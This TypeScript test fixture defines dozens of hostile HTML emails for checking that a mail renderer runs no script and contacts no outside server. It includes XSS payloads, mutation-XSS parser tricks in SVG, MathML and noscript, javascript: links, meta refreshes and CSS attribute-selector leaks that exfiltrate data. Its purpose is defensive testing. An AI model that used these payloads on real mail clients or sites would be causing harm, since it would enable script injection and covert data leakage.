/** A mail that means to run something, load something, or lead away. */
export interface HostileMail {
  readonly name: string;
  readonly html: string;
  /** Parts by their Content-ID. */
  readonly parts?: Readonly<Record<string, { readonly type: string; readonly content: string }>>;
  /** What a reader might click. */
  readonly click?: string;
  /** What it does may come a while after it is shown. */
  readonly isSlow?: boolean;
}

/** What a script of theirs does: everybody can see that it ran. */
const run = `void(document.title='ran')`;

/** `outside` is the URL of a server that must hear nothing. */
export function hostileMails(outside: string): HostileMail[] {
  const image = `<img src=x onerror="${run}">`;
  const escapedImage = `&lt;img src=x onerror=&quot;${run}&quot;&gt;`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>${run}</script>
    <image xlink:href="${outside}/svg-image"/><style>@import url(${outside}/svg-style)</style></svg>`;
  const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${run}</script></head><body>x</body></html>`;
  const link = (name: string, tag: string): HostileMail => ({ name, html: `<p>Mail</p>${tag}`, click: '#a' });
  const part = (name: string, type: string, content: string, html: string): HostileMail => ({
    name,
    html,
    parts: { evil: { type, content } },
    ...(html.includes('id=a') && { click: '#a' }),
  });
  return [
    {
      name: 'scripts and handlers',
      html: `<script>${run}</script><script src="${outside}/s.js"></script><script type=module>${run}</script>${image}
        <svg onload="${run}"></svg><svg><script>${run}</script></svg><body onload="${run}" onpageshow="${run}">
        <details open ontoggle="${run}">x</details><input autofocus onfocus="${run}"><marquee onstart="${run}">x</marquee>
        <video><source onerror="${run}"></video><svg><animate onbegin="${run}" attributeName=x dur=1s></svg>
        <style onload="${run}"></style><p style="animation:a 1ms" onanimationstart="${run}">x</p>
        <style>@keyframes a{to{color:red}}</style><xss onfocus="${run}" tabindex=1 autofocus>x</xss>`,
    },
    {
      name: 'handlers in capitals and odd writing',
      html: `<IMG SRC=x ONERROR="${run}"><img/src=x/onerror=${run}><img src=x\tonerror\n=\n"${run}"><img """><script>${run}</script>">
        <script\n>${run}</script\n><SCRIPT/x>${run}</SCRIPT><scr\0ipt>${run}</script><img src=x one\0rror="${run}">`,
    },
    {
      name: 'import maps, speculation rules, prerender and other links',
      isSlow: true,
      html: `<script type=importmap>{"imports":{"a":"${outside}/map.js"}}</script>
        <script type=speculationrules>{"prefetch":[{"urls":["${outside}/speculated"],"eagerness":"immediate"}],
          "prerender":[{"urls":["${outside}/rendered"],"eagerness":"immediate"}]}</script>
        ${[
          'prerender',
          'prefetch',
          'preload',
          'modulepreload',
          'preconnect',
          'dns-prefetch',
          'manifest',
          'icon',
          'next',
          'expect',
        ]
          .map(
            (rel) =>
              `<link rel="${rel}" as=image href="${outside}/${rel}"><link rel=${rel} crossorigin href=${outside}>`,
          )
          .join('')}`,
    },
    {
      name: 'refreshes',
      isSlow: true,
      html: `<meta http-equiv=refresh content="0;url=${outside}/refresh"><meta http-equiv="Refresh" content="0; url=javascript:${run}">
        <meta http-equiv="set-cookie" content="a=b"><meta name=x http-equiv=refresh content="0;${outside}/named">
        <svg><meta http-equiv=refresh content="0;url=${outside}/in-svg"></svg><p>Mail</p>`,
    },
    {
      name: 'frames and plug-ins',
      isSlow: true,
      html: `<iframe src="${outside}/frame"></iframe><iframe src="javascript:parent.${run}"></iframe>
        <iframe srcdoc="<script>parent.${run}</script><img src=${outside}/srcdoc>"></iframe><object data="${outside}/object"></object>
        <object type="image/svg+xml" data="data:image/svg+xml,${encodeURIComponent(svg)}"></object><embed src="${outside}/embed">
        <embed src="data:text/html,<script>parent.${run}</script>"><applet code="${outside}/applet"></applet>
        <portal src="${outside}/portal"></portal><fencedframe src="${outside}/fenced"></fencedframe>`,
    },
    {
      name: 'framesets',
      html: `<frameset onload="${run}"><frame src="${outside}/frame"><frame src="javascript:parent.${run}"></frameset>`,
    },
    {
      name: 'images and media',
      html: `<base href="${outside}/base/" target="_top"><img src="relative.png"><img src="${outside}/img" srcset="${outside}/set 2x, ${outside}/set2 3x" loading=lazy>
        <picture><source srcset="${outside}/source"><img></picture><video src="${outside}/video" poster="${outside}/poster" autoplay></video>
        <audio src="${outside}/audio" autoplay></audio><track src="${outside}/track"><input type=image src="${outside}/input">
        <table background="${outside}/table"></table><body background="${outside}/body"><svg><image href="${outside}/image"/>
        <use href="${outside}/use#x"/><feImage href="${outside}/fe"/><rect fill="url(${outside}/fill#x)"/></svg>
        <img src="//${outside.replace('http://', '')}/no-scheme"><img attributionsrc="${outside}/attribution" src="data:,">
        <img src=" ${outside.replace('http', 'ht\ntp')}/broken-scheme">`,
    },
    {
      name: 'styles',
      html: `<link rel=stylesheet href="${outside}/link.css"><link rel="alternate stylesheet" title=x href="${outside}/other.css">
        <style>@import "${outside}/i.css"; @import url(${outside}/j.css); @\\69mport "${outside}/k.css"; @font-face{font-family:x;src:url(${outside}/font)}
        p{font-family:x;background:url(${outside}/bg);list-style-image:url('${outside}/li');cursor:url("${outside}/cur"),auto;
        border-image:u\\72l(${outside}/bi);mask:image-set("${outside}/set" 1x);behavior:url(${outside}/htc);-moz-binding:url(${outside}/xbl)}
        p::after{content:url(${outside}/after)} input[value^="4"]{background:url(${outside}/starts-with-4)}
        @media (prefers-color-scheme:light){p{background:url(${outside}/light)}}</style><svg><style>@import url(${outside}/in-svg);</style></svg>
        <p style="background:url(${outside}/attribute)">x</p><p style='background:image-set("${outside}/quoted" 1x)'>x</p><input value="482913">`,
    },
    {
      name: 'a style that ends early',
      html: `<style>p{content:"</style><script>${run}</script>"}</style><style>/*</style>${image}*/</style>`,
    },
    { name: 'a style within SVG', html: `<svg></p><style><a id="</style>${image.replaceAll('"', "'")}">` },
    {
      name: 'a style within MathML',
      html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${escapedImage}">`,
    },
    { name: 'a form that moves', html: `<form><math><mtext></form><form><mglyph><style></math>${image}` },
    { name: 'a comment within a style within SVG', html: `<svg><style><!--</style>${image}--></style></svg>` },
    {
      name: 'an integration point',
      html: `<math><annotation-xml encoding="text/html"><style><img title="</style>${escapedImage}"></style>${image}`,
    },
    {
      name: 'CDATA',
      html: `<select><svg><![CDATA[ ></select>${image}<iframe src=${outside}/cdata>]]></svg><svg><![CDATA[<a title="]]>${image}">`,
    },
    {
      name: 'a title within SVG',
      html: `<svg><title><style><img title="</style>${image.replaceAll('"', "'")}"></title></svg><svg><desc><noscript><img alt="</noscript>${image.replaceAll('"', "'")}">`,
    },
    {
      name: 'noscript',
      html: `<noscript><p title="</noscript>${image.replaceAll('"', "'")}">x</noscript><noscript><style></noscript>${image}</style>`,
    },
    {
      name: 'templates',
      html: `<template><script>${run}</script></template><div><template shadowrootmode=open>${image}<iframe src="${outside}/shadow"></iframe></template></div>`,
    },
    {
      name: 'elements of text',
      html: `<textarea><img title="</textarea>${image.replaceAll('"', "'")}"></textarea><title>${image}</title><xmp>${image}</xmp>${image}<noembed>${image}</noembed>`,
    },
    { name: 'plaintext', html: `<plaintext><iframe src="${outside}/plaintext"></iframe>${image}` },
    {
      name: 'comments',
      html: `<!--><script>${run}</script>--><!--!>${image}<!---!>${image}<![endif]-->${image}<!--[if gte IE 4]><script>${run}</script><![endif]--><!-- --!>${image}<? ${image}`,
    },
    { name: 'a tag that never ends', html: `<p>Mail</p><img src="${outside}/open?` },
    {
      name: 'names that a document has',
      html: `<p>Mail</p><img name=querySelector><form name=body><input name=attributes></form><img name=getElementById id=documentElement><a id=defaultView></a>`,
    },
    { name: 'UTF-7', html: `<meta charset="utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4-` },
    link('a javascript: link', `<a id=a href="javascript:${run}">x</a>`),
    link('a javascript: link in odd writing', `<a id=a href=" &#1;Java&Tab;Scr&NewLine;ipt&colon;${run}">x</a>`),
    link('a javascript: link in a window of its own', `<a id=a target=_blank href="javascript:opener.${run}">x</a>`),
    link(
      'a javascript: link in SVG',
      `<svg width=50 height=50><a id=a xlink:href="javascript:${run}"><rect width=50 height=50 /></a></svg>`,
    ),
    link(
      'a link that is animated',
      `<svg width=50 height=50><a id=a><set attributeName=href to="javascript:${run}"/><animate attributeName=xlink:href values="javascript:${run}"/><rect width=50 height=50 /></a></svg>`,
    ),
    link(
      'a javascript: link in MathML',
      `<math><mtext id=a href="javascript:${run}" xlink:href="javascript:${run}">x</mtext></math>`,
    ),
    link(
      'an area',
      `<map name=m><area shape=default href="javascript:${run}"></map><img id=a usemap=#m width=50 height=50>`,
    ),
    link('a data: link', `<a id=a href="data:text/html,<script>${run}</script>">x</a>`),
    link('a form', `<form action="${outside}/form"><button id=a>x</button></form>`),
    link(
      'a form that runs a script',
      `<form action="javascript:${run}"><button id=a formaction="javascript:${run}">x</button></form>`,
    ),
    link(
      'a form of another place',
      `<button id=a form=f formaction="${outside}/formaction">x</button><form id=f target=_blank></form>`,
    ),
    link('a ping', `<a id=a href="#top" ping="${outside}/ping">x</a>`),
    link(
      'a text that is an address',
      `<p id=a>javascript://contoso.com/%0a${run} ${escapedImage} https://contoso.com/"onclick="${run}</p>`,
    ),
    part('an HTML part by a link', 'text/html', `<script>${run}</script>`, '<a id=a href="cid:evil">x</a>'),
    part('an HTML part by its name', 'text/html', `<script>${run}</script>`, '<a id=a href="evil">x</a>'),
    part('an XHTML part by a link', 'application/xhtml+xml', xhtml, '<a id=a href="cid:evil" target=_blank>x</a>'),
    part('an SVG part by a link', 'image/svg+xml', svg, '<a id=a href="cid:evil">x</a>'),
    part('an SVG part by its name', 'image/svg+xml', svg, '<a id=a href="evil">x</a>'),
    part(
      'an SVG part as an image',
      'image/svg+xml',
      svg,
      '<img src="cid:evil"><object data="cid:evil"></object><embed src="cid:evil"><iframe src="cid:evil"></iframe>',
    ),
    part(
      'a style sheet as a part',
      'text/css',
      `p{background:url(${outside}/part)}`,
      '<link rel=stylesheet href="cid:evil"><p>Mail</p>',
    ),
    part(
      'a script as a part',
      'text/javascript',
      run,
      '<script src="cid:evil"></script><script type=module src="cid:evil"></script>',
    ),
  ];
}
